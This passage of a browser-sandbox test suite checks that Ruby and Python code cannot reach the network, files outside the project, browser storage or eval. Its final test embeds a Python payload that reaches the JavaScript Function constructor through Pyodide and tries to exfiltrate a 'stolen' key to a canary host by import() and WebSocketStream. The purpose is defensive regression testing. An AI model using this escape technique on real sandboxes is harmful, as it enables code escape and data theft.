  test('Ruby: Net::HTTP, TCPSocket, URI.open, backticks, system and spawn reach no network', async () => {
    expect(await shell(`ruby attack.rb net ${canary.url}`)).toBe('ok 0');
    const out = await outputText();
    for (const label of ['Net::HTTP', 'TCPSocket', 'URI.open']) expect(out).toContain(`${label}: refused`);
    expect(out).not.toContain('stolen');
  });

  // Promise: no reach outside the project or into other projects from Ruby.
  test('Ruby: paths above /, from /workspace or /tmp, absolute paths and other projects are refused; symlink is not supported', async () => {
    expect(await shell(`ruby attack.rb paths ${canary.url} ${victimId}`)).toBe('ok 0');
    const out = await outputText();
    expect(out).not.toContain('REACHED');
    expect(lines(out, 'read ').every((line) => line.includes('refused'))).toBe(true);
    expect(lines(out, 'read ')).toHaveLength(10);
    expect(lines(out, 'write ')).toHaveLength(3);
    expect(lines(out, 'write ').every((line) => line.includes('refused'))).toBe(true);
    expect(out).toContain('symlink: refused (Errno::ENOTSUP');
    expect(out).toContain('symlink in /tmp: refused (Errno::ENOTSUP');
    expect(out).toContain('glob: []');
  });

  // Promise: Stop ends a Ruby endless loop.
  test('Ruby: Stop ends loop {}', async () => {
    await stopShell('ruby -e "puts :spinning; loop {}"', 'spinning');
  });

  // ---------------------------------------------------------------------------------------------
  // Python: what the Python suite does not try yet

  // Promise: no eval in the worker (its CSP has no 'unsafe-eval'), whichever JS function Python
  // reaches the Function/AsyncFunction constructor from.
  test('Python: the Function constructor is refused by the worker CSP on every route', async () => {
    expect(await shell('python eval.py')).toBe('ok 0');
    const out = await outputText();
    expect(out).not.toContain('REACHED');
    expect(out.match(/refused: JsException EvalError/g)).toHaveLength(5);
  });

  // Promise: no reach into browser storage through Emscripten file systems (IDBFS needs
  // indexedDB, NATIVEFS needs a directory handle, NODEFS needs Node).
  test('Python: IDBFS, mountNativeFS and mountNodeFS reach no storage', async () => {
    const databases = (): Promise<string[]> => page.evaluate(async () => (await indexedDB.databases()).map((db) => db.name ?? ''));
    const before = await databases();
    expect(await shell('python storage.py')).toBe('ok 0');
    const out = await outputText();
    expect(out).toMatch(/IDBFS -> syncfs said: .*(TypeError|indexedDB)/);
    expect(out).toMatch(/mountNativeFS (-> \[\]|refused)/);
    expect(out).toContain('mountNodeFS refused');
    await page.waitForTimeout(500);
    expect(await databases()).toEqual(before);
  });

  // Promise: Stop ends code that ignores SIGINT and swallows KeyboardInterrupt.
  test('Python: Stop ends a loop that ignores SIGINT and swallows KeyboardInterrupt', async () => {
    await stopShell('python sigint.py', 'ignoring interrupts');
  });

  // Promise: Stop ends code that swapped the interrupt buffer for its own (pyodide_js.setInterruptBuffer).
  test('Python: Stop ends a loop after the interrupt buffer was replaced', async () => {
    await stopShell('python ibuf.py', 'interrupt buffer replaced');
  });

  // Promise: Stop ends a long sleep.
  test('Python: Stop ends time.sleep(3600)', async () => {
    await stopShell('python -c "import time; print(\'sleeping\', flush=True); time.sleep(3600)"', 'sleeping');
  });

  // Promise: "the next run works" after any hostile run. The worker keeps one Python interpreter
  // for the runs of a project; a run replacing builtins.print must not silence the next one
  // (was a hole: builtins, sys streams and import hooks are now restored before every run).
  test('Python: a run cannot leave hooks that change the next run', async () => {
    expect(await shell('python persist.py')).toBe('ok 0');
    const status = await shell('python -c "print(\'the next run prints\')"');
    await page.waitForTimeout(1_000);
    // Only positive evidence fails this case: the next run succeeded, yet its print was swallowed.
    const silenced = status === 'ok 0' && !(await outputText()).includes('the next run prints');
    expect(silenced).toBe(false);
  });
});

test.describe('a page that is not cross-origin isolated', () => {
  // Promise: no network from user code, on every host. The worker's CSP is what refuses eval,
  // other-origin import() and sockets; it comes with the worker script's response, from the host,
  // the preview server or the service worker. On a plain static host (no headers) with service
  // workers unavailable (blocked, some private modes, or the first visit before the service worker
  // takes over) the page is not isolated and the worker script has no CSP. It was a hole: the sandbox ran
  // code there anyway (src/sandbox/host/sandbox.ts falls back to an ArrayBuffer without
  // SharedArrayBuffer), so Python builds JavaScript from any JS function it holds and exfiltrates
  // by dynamic import() or WebSocketStream, and can postMessage the page. Closed: the worker now
  // fails closed (entry.browser.ts refuses to run code when `new Function('')` succeeds).
  test('code cannot reach the network where the worker CSP is missing', async ({ browser }) => {
    const server = await startStaticServer(process.env.ISOBOX_DIST ?? 'dist');
    const leak = await startCanary();
    const plain = await browser.newContext({ serviceWorkers: 'block' });
    try {
      const other = await plain.newPage();
      await other.goto(server.url);
      expect(await other.evaluate(() => crossOriginIsolated)).toBe(false);
      await waitForPython(other);
      await setEditorText(
        other,
        `from pyodide.ffi import to_js\nF = to_js([]).constructor.constructor\nfor src in ["return import('${leak.url}/import.mjs?key=stolen')", "return new WebSocketStream('${leak.url.replace('http', 'ws')}/socket')"]:\n    try:\n        print("ran:", F(src)())\n    except Exception as e:\n        print("blocked:", type(e).__name__)\n`,
      );
      const before = await runsFinished(other);
      await other.getByTestId('run-button').click();
      await expect(ui.runStatus(other)).toHaveAttribute('data-runs', String(before + 1), { timeout: 60_000 });
      await other.waitForTimeout(1_500);
      // Only positive evidence fails this case: a request reached the attacker.
      expect(leak.hits).toEqual([]);
    } finally {
      await plain.close();
      await leak.close();
      await server.close();
    }
  });
});
